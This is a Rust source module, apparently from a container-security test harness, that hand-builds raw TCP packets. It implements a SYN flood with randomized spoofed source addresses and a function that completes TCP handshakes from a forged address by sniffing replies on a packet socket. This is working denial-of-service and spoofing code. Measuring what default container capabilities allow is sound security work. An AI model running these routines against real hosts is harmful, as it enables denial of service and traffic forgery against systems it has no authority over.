//! Packets made by hand: what NET_RAW allows, which containers have by default.

use std::io::{self, ErrorKind, Read};
use std::net::{IpAddr, Ipv4Addr, SocketAddrV4};
use std::time::{Duration, Instant};

use socket2::{Domain, Protocol, Socket, Type};

use super::intruder::{AttackOptions, AttackReport, LINE, PATIENCE};

const SYN: u8 = 0x02;
const ACK: u8 = 0x10;
const PUSH: u8 = 0x08;
/// `ETH_P_ALL` of `if_ether.h`: packets that leave are seen too.
const EVERY_PROTOCOL: u16 = 0x0003;
const TCP: u8 = 6;
const IP_HEADER: usize = 20;
const TCP_HEADER: usize = 20;

/// A TCP segment without options.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Segment<'a> {
    source: SocketAddrV4,
    destination: SocketAddrV4,
    sequence: u32,
    acknowledged: u32,
    flags: u8,
    payload: &'a [u8],
}

impl<'a> Segment<'a> {
    fn syn(source: SocketAddrV4, destination: SocketAddrV4) -> Self {
        Self {
            source,
            destination,
            sequence: 1,
            acknowledged: 0,
            flags: SYN,
            payload: &[],
        }
    }

    /// With its IPv4 header.
    fn to_packet(self) -> io::Result<Vec<u8>> {
        let length = TCP_HEADER + self.payload.len();
        let too_long = |_| io::Error::from(ErrorKind::InvalidInput);
        let total = u16::try_from(IP_HEADER + length).map_err(too_long)?;
        let length = u16::try_from(length).map_err(too_long)?;
        let (source, destination) = (self.source.ip().octets(), self.destination.ip().octets());
        let mut tcp = Vec::new();
        tcp.extend(self.source.port().to_be_bytes());
        tcp.extend(self.destination.port().to_be_bytes());
        tcp.extend(self.sequence.to_be_bytes());
        tcp.extend(self.acknowledged.to_be_bytes());
        // Five words of header, a wide window, room for the checksum, no urgent data.
        tcp.extend([0x50, self.flags, 0xff, 0xff, 0, 0, 0, 0]);
        tcp.extend(self.payload);
        let mut pseudo: Vec<u8> = [source, destination, [0, TCP, 0, 0]].concat();
        pseudo[10..12].copy_from_slice(&length.to_be_bytes());
        pseudo.extend(&tcp);
        let sum = checksum(&pseudo).to_be_bytes();
        tcp[16..18].copy_from_slice(&sum);
        // The kernel fills in the checksum of this one.
        let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, TCP, 0, 0];
        packet[2..4].copy_from_slice(&total.to_be_bytes());
        packet.extend(source);
        packet.extend(destination);
        packet.extend(tcp);
        Ok(packet)
    }

    /// Out of an IPv4 packet; none if it holds no TCP.
    fn parse(packet: &'a [u8]) -> Option<Self> {
        let header = usize::from(packet.first()? & 0x0f) * 4;
        if packet[0] >> 4 != 4 || packet.get(9) != Some(&TCP) {
            return None;
        }
        let total = usize::from(u16::from_be_bytes([*packet.get(2)?, *packet.get(3)?]));
        let address = |at: usize| -> Option<Ipv4Addr> {
            let octets: [u8; 4] = packet.get(at..at + 4)?.try_into().ok()?;
            Some(octets.into())
        };
        let (source, destination) = (address(12)?, address(16)?);
        let tcp = packet.get(header..total)?;
        let short = |at: usize| Some(u16::from_be_bytes(tcp.get(at..at + 2)?.try_into().ok()?));
        let long = |at: usize| Some(u32::from_be_bytes(tcp.get(at..at + 4)?.try_into().ok()?));
        Some(Self {
            source: SocketAddrV4::new(source, short(0)?),
            destination: SocketAddrV4::new(destination, short(2)?),
            sequence: long(4)?,
            acknowledged: long(8)?,
            flags: *tcp.get(13)?,
            payload: tcp.get(usize::from(tcp.get(12)? >> 4) * 4..)?,
        })
    }
}

fn checksum(bytes: &[u8]) -> u16 {
    let sum: u32 = bytes
        .chunks(2)
        .map(|pair| u32::from(pair[0]) << 8 | u32::from(*pair.get(1).unwrap_or(&0)))
        .sum();
    let folded = (sum & 0xffff) + (sum >> 16);
    let folded = (folded & 0xffff) + (folded >> 16);
    !u16::try_from(folded).unwrap_or(u16::MAX)
}

fn raw_socket() -> io::Result<Socket> {
    // IPPROTO_RAW: the header comes with the packet.
    Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255)))
}

fn v4(options: &AttackOptions) -> io::Result<SocketAddrV4> {
    match options.to {
        std::net::SocketAddr::V4(to) => Ok(to),
        std::net::SocketAddr::V6(_) => Err(ErrorKind::InvalidInput.into()),
    }
}

/// Raw SYNs. Success here is only that they were sent; what they do is measured elsewhere.
pub(super) fn flood(options: &AttackOptions, report: &mut AttackReport) -> io::Result<()> {
    let to = v4(options)?;
    let socket = raw_socket()?;
    let end = Instant::now() + Duration::from_secs(options.seconds);
    let mut state = u64::from(std::process::id()) | 1;
    while Instant::now() < end {
        // As many as a container may send in a burst, with a rest in which the machine can do its work.
        for _ in 0..50 {
            // xorshift64: spread, not secret.
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            let [a, b, c, d, e, ..] = state.to_le_bytes();
            let source = Ipv4Addr::new(198, 18 + (a & 1), b, c);
            let port = u16::from_le_bytes([d, e]) | 1024;
            let packet = Segment::syn(SocketAddrV4::new(source, port), to).to_packet()?;
            report.attempts += 1;
            report.succeeded += u64::from(socket.send_to(&packet, &to.into()).is_ok());
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    Ok(())
}

/// Whole connections from an address that nobody has: the answers leave by a device on which they can be
/// read. Success: the line comes back.
pub(super) fn forge(options: &AttackOptions, report: &mut AttackReport) -> io::Result<()> {
    let to = v4(options)?;
    let Some(IpAddr::V4(source)) = options.source else {
        return Err(ErrorKind::InvalidInput.into());
    };
    let out = raw_socket()?;
    if let Some(device) = &options.device {
        out.bind_device(Some(device.as_bytes()))?;
    }
    let every = Protocol::from(i32::from(EVERY_PROTOCOL.to_be()));
    let mut wire = Socket::new(Domain::PACKET, Type::DGRAM, Some(every))?;
    for attempt in 0..options.attempts {
        let port = 20_000 + u16::try_from(attempt).map_err(|_| ErrorKind::InvalidInput)?;
        report.add(connect(
            &out,
            &mut wire,
            SocketAddrV4::new(source, port),
            to,
        ));
    }
    Ok(())
}

fn connect(
    out: &Socket,
    wire: &mut Socket,
    source: SocketAddrV4,
    to: SocketAddrV4,
) -> io::Result<bool> {
    let send = |segment: Segment<'_>| out.send_to(&segment.to_packet()?, &to.into());
    let deadline = Instant::now() + PATIENCE;
    send(Segment::syn(source, to))?;
    let mut buffer = vec![0; 2048];
    while let Some(left) = deadline.checked_duration_since(Instant::now()) {
        wire.set_read_timeout(Some(left.max(Duration::from_millis(1))))?;
        let length = wire.read(&mut buffer)?;
        let Some(seen) = Segment::parse(&buffer[..length]) else {
            continue;
        };
        if (seen.source, seen.destination) != (to, source) {
            continue;
        }
        if seen.flags & !PUSH == SYN | ACK {
            send(Segment {
                source,
                destination: to,
                sequence: seen.acknowledged,
                acknowledged: seen.sequence.wrapping_add(1),
                flags: ACK | PUSH,
                payload: LINE,
            })?;
        } else if seen.payload == LINE {
            return Ok(true);
        } else if seen.flags & 0x04 != 0 {
            return Err(ErrorKind::ConnectionReset.into());
        }
    }
    Err(ErrorKind::TimedOut.into())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_forged_segment_has_a_right_checksum_and_is_read_as_it_was_made() {
        let source = SocketAddrV4::new(Ipv4Addr::new(198, 18, 1, 2), 4000);
        let to = SocketAddrV4::new(Ipv4Addr::new(10, 0, 0, 1), 80);
        let segment = Segment {
            flags: ACK | PUSH,
            payload: b"odd",
            ..Segment::syn(source, to)
        };
        let packet = segment.to_packet().unwrap();
        let length = u8::try_from(packet.len() - IP_HEADER).unwrap();
        let mut pseudo = [source.ip().octets(), to.ip().octets(), [0, TCP, 0, length]].concat();
        pseudo.extend(&packet[IP_HEADER..]);
        assert_eq!(checksum(&pseudo), 0);
        assert_eq!(Segment::parse(&packet), Some(segment));
    }
}
